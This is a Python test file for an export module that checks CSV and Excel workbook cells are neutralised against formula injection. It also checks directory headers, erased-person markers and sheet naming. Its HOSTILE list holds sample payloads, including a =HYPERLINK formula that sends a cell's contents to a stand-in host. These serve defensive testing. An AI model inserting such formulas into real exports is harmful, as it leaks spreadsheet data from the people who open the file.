"""Exports no spreadsheet evaluates: CSV cells neutralised as OWASP recommends, workbook cells as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from niangjia_contracts import ERASED
from niangjia_projections.entrypoints.people import _sheet_row
from niangjia_projections.exports import FORMULA_STARTS, csv_cell
from niangjia_projections.glossary import Lang, stamp
from niangjia_projections.models.audit import queries as audit
from niangjia_projections.workbook import Stamp, _header, facts, put, sheet_name, workbook
from openpyxl import Workbook, load_workbook

HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_a_csv_cell_that_would_be_a_formula_is_text() -> None:
    for value in HOSTILE:
        assert csv_cell(value) == "'" + value
    assert csv_cell("湖塘镇") == "湖塘镇" and csv_cell(42) == 42 and csv_cell(None) is None


def test_the_audit_csv_has_no_formula_in_any_cell() -> None:
    records = [
        {column: hostile for column in audit.OUT_COLUMNS} | {"position": n, "data": {"name": hostile}}
        for n, hostile in enumerate(HOSTILE, 1)
    ]
    text = b"".join(audit.as_csv(iter(records))).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


PLACE = ("member_id", "federation_id", "region", "level")
PERSONAL = ("name", "mobile", "employer", "title")


def _directory_sheet(rows: list[dict[str, Any]], lang: Lang) -> list[list[Any]]:
    report: dict[str, Any] = {"region": "江苏省/常州市/武进区", "as_of": None, "known_at": None, "chairs": len(rows)}
    report["items"] = [_sheet_row(row, lang) for row in rows]
    head = Stamp(stamp("chairs_directory", lang), "江苏省/常州市/武进区", None, None, 7)
    sheet = load_workbook(io.BytesIO(workbook(head, report, lang))).active
    assert sheet is not None
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_directory_workbook_holds_text_never_a_formula() -> None:
    rows = [dict.fromkeys((*PLACE, *PERSONAL), hostile) for hostile in HOSTILE]
    report = {"chairs": len(rows), "items": [_sheet_row(row, "zh") for row in rows]}
    sheet = load_workbook(io.BytesIO(workbook(Stamp("通讯录", None, None, None, None), report, "zh"))).active
    assert sheet is not None
    values = [cell for row in sheet.iter_rows(min_row=sheet.max_row - len(HOSTILE) + 1) for cell in row]
    assert len(values) == len(HOSTILE) * len(PLACE + PERSONAL)
    assert all(cell.data_type == "s" for cell in values)
    assert {cell.value for cell in values} == {h.replace("\r", "\n") for h in HOSTILE}  # as written (XML keeps no CR)


@pytest.mark.parametrize(
    ("lang", "headers", "erased"),
    [
        ("zh", ["执委编号", "妇联编号", "地区", "层级", "姓名", "手机", "工作单位", "单位职务"], "已删除"),
        ("en", ["member id", "federation id", "region", "level", "name", "mobile", "employer", "job title"], "erased"),
    ],
)
def test_the_directory_workbook_names_its_headers_and_levels_and_says_who_was_erased(
    lang: Lang, headers: list[str], erased: str
) -> None:
    """A chair's own name and job title under their own headers (not an organisation's 名称), her level by
    its name, the sheet stamped as every export is; an erased chair's personal data "erased" in English."""
    place = {"member_id": "m-1", "federation_id": "wj-hitech", "region": "江苏省/常州市/武进区/湖塘镇", "level": "town"}
    kept = {**place, "name": "张敏", "mobile": "13800000000", "employer": "某公司", "title": "经理"}
    gone = {**place, "member_id": "m-2", **dict.fromkeys(PERSONAL, ERASED)}  # as the key store answers
    cells = _directory_sheet([kept, gone], lang)
    assert cells[0][0] == ("妇委会主任通讯录" if lang == "zh" else "Chairs' contact directory")
    assert cells[-3][: len(headers)] == headers
    assert cells[-2][3:] == [
        ("镇（街道）" if lang == "zh" else "town"),
        "张敏",
        "13800000000",
        "某公司",
        "经理",
    ]
    assert cells[-1][4:] == [erased] * 4


def test_a_report_workbook_cell_that_starts_as_any_formula_would_is_marked_text() -> None:
    sheet = Workbook().active
    assert sheet is not None
    for row, start in enumerate(FORMULA_STARTS, 1):  # the same list as the CSV cells'
        cell = put(sheet, row, 1, f'{start}HYPERLINK("http://x")')
        assert (cell.data_type, cell.quotePrefix) == ("s", True), repr(start)
    assert put(sheet, 9, 1, "武进区").quotePrefix is False


@pytest.mark.parametrize(
    ("title", "sheet"),
    [
        ("四季关爱行动年度报表", "四季关爱行动年度报表"),
        ("Care campaigns: the year", "Care campaigns - the year"),
        ("Seasonal care campaigns: the year", "Seasonal care campaigns"),
        ("Executive members and their “one member, one deed” projects", "Executive members and their"),
        ("a/b?c*[d]", "a b c d"),
        ("x" * 40, "x" * 31),
    ],
)
def test_a_sheet_is_named_by_its_title_as_excel_allows(title: str, sheet: str) -> None:
    assert sheet_name(title) == sheet


@pytest.mark.parametrize(
    ("lang", "line", "header"),
    [
        ("zh", "爱心物资（元）：1,200.00；更正项：受益人次、爱心物资（元）", "有效覆盖·比例"),
        ("en", "goods (yuan): 1,200.00; corrected fields: people served, goods (yuan)", "effective coverage: share"),
    ],
)
def test_an_events_facts_and_a_nested_header_read_as_words(lang: Lang, line: str, header: str) -> None:
    """Money in an event's facts as its cells show it (it read 1200.0), a list in the language's own
    separator; a nested figure after a colon in English ("effective coverage share" ran on)."""
    corrected = {"goods_value_yuan": "1200.00", "corrected_fields": ["people_served", "goods_value_yuan"]}
    assert facts(corrected, lang) == line
    assert _header("effective_coverage.share", lang) == header
    assert _header("period.start", "en") == "period from"


def test_a_figure_without_a_value_is_left_out_of_the_sheet() -> None:
    """A filter not given (statuses: null) or the last page (next_after: null) says nothing: no row."""
    report = {"total": 3, "statuses": None, "next_after": None}
    sheet = load_workbook(io.BytesIO(workbook(Stamp("x", None, None, None, None), report, "en"))).active
    assert sheet is not None
    labels = [row[0] for row in sheet.iter_rows(min_row=8, values_only=True) if row[0]]
    assert labels == ["total"]
